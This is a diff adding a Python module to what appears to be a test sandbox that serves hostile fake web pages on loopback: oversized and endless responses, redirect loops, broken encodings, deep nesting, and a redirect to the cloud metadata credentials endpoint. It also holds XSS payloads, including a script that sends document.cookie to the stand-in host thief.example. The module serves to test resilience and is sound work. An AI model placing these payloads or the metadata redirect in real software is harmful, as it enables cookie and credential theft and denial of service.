@@ -1,0 +1,124 @@
+"""Pages of the make-believe web that mean harm: endless, broken or full of script. Their harm stays on loopback."""
+
+import asyncio
+import random
+from collections.abc import AsyncIterator, Sequence
+from dataclasses import dataclass
+from functools import cache, partial
+from typing import Literal
+
+from exposurekit.sandbox.world.asgi import Answer, html, redirect
+from exposurekit.sandbox.world.formats import phone_as
+from exposurekit.sandbox.world.pages import PageTruth
+from exposurekit.sandbox.world.people import Person, slug
+
+Kind = Literal["huge", "drip", "rounds", "garbled", "scripted", "nested", "metadata"]
+KINDS: tuple[Kind, ...] = ("huge", "drip", "rounds", "garbled", "scripted", "nested", "metadata")
+HOST = "tarpit.example"
+EACH = 2  # pages of a kind, so that a demo does not spend its time in them
+HUGE_PARTS, PART = 800, b"<p>marsh marsh marsh marsh</p>\n" * 2114  # 800 parts of 64 kB: 50 MB
+DRIP_S = 0.2
+DEPTH = 200_000
+PAYLOAD = "<script>fetch('http://thief.example/?'+document.cookie)</script>"
+
+
+@dataclass(frozen=True, repr=False)
+class HostilePage:
+    """A harmful page that an engine lists for somebody."""
+
+    kind: Kind
+    index: int
+    person: Person
+
+    @property
+    def name(self) -> str:
+        """Whom it claims to be about."""
+        return f"{self.person.first_name} {self.person.last_name}"
+
+    @property
+    def path(self) -> str:
+        """Where it is on its host."""
+        return f"/{self.kind}/{slug(self.name)}-{self.index}"
+
+    @property
+    def url(self) -> str:
+        """Its address."""
+        return f"http://{HOST}{self.path}"
+
+    @property
+    def title(self) -> str:
+        """What an engine calls it."""
+        return f"{PAYLOAD}{self.name}" if self.kind == "scripted" else f"All about {self.name}"
+
+    def truth(self) -> PageTruth:
+        """What stands on it all the same."""
+        kinds = {"scripted": ("email", self.person.emails), "garbled": ("phone", self.person.phone_numbers)}
+        kind, held = kinds.get(self.kind, ("", ()))
+        return PageTruth(self.url, self.index, (kind,) if held else (), hostile=True)
+
+    def answer(self, path: str) -> Answer:
+        """What it does to whoever opens it."""
+        match self.kind:
+            case "huge":
+                answer = Answer(parts=partial(_huge, self.name))
+            case "drip":
+                answer = Answer(parts=partial(_drip, self.name))
+            case "rounds":
+                answer = redirect(f"{self.path}/{_round(path) + 1}")
+            case "garbled":
+                answer = Answer(self._garbled(), kind="text/html; charset=x-no-such-code")
+            case "scripted":
+                answer = html(self._scripted())
+            case "nested":
+                answer = Answer(_nested() + self.name.encode())
+            case "metadata":
+                answer = redirect("http://169.254.169.254/latest/meta-data/iam/security-credentials/")
+        return answer
+
+    def _garbled(self) -> bytes:
+        phones = " ".join(phone_as(number, 0) for number in self.person.phone_numbers)
+        return (
+            b"\xff\xfe\x80<html><body>\xc3\x28 "
+            + self.name.encode()
+            + b" \xf0\x9f tel. "
+            + phones.encode()
+            + b"\x00\x81"
+        )
+
+    def _scripted(self) -> str:
+        return (
+            f"<title>{PAYLOAD}{self.name}</title><body onload=\"alert('1')\">{PAYLOAD}"
+            f'<img src="http://thief.example/x" onerror="alert(2)"><iframe src="javascript:alert(3)"></iframe>'
+            f"<p>{self.name} {' '.join(self.person.emails)}</p><svg/onload=alert(4)>"
+            f'<a href="javascript:alert(5)">more</a><meta http-equiv="refresh" content="0;url=http://thief.example/">'
+        )
+
+
+def laid(people: Sequence[Person], seed: int) -> list[HostilePage]:
+    """The harmful pages: a few of each kind, for as many people as there are of them."""
+    rng = random.Random(f"hostile {seed}")  # noqa: S311  make-believe, not a secret
+    chosen = rng.sample(range(len(people)), min(len(people), EACH * len(KINDS)))
+    return [HostilePage(KINDS[at % len(KINDS)], index, people[index]) for at, index in enumerate(chosen)]
+
+
+def _round(path: str) -> int:
+    last = path.rpartition("/")[2]
+    return int(last) if last.isascii() and last.isdigit() and len(last) < 9 else 0  # noqa: PLR2004
+
+
+@cache
+def _nested() -> bytes:
+    return b"<html><body>" + b"<div>" * DEPTH
+
+
+async def _huge(name: str) -> AsyncIterator[bytes]:
+    yield f"<html><body><h1>{name}</h1>".encode()
+    for _ in range(HUGE_PARTS):
+        yield PART
+
+
+async def _drip(name: str) -> AsyncIterator[bytes]:
+    yield f"<html><body><h1>{name}</h1>".encode()
+    while True:
+        await asyncio.sleep(DRIP_S)
+        yield b"."
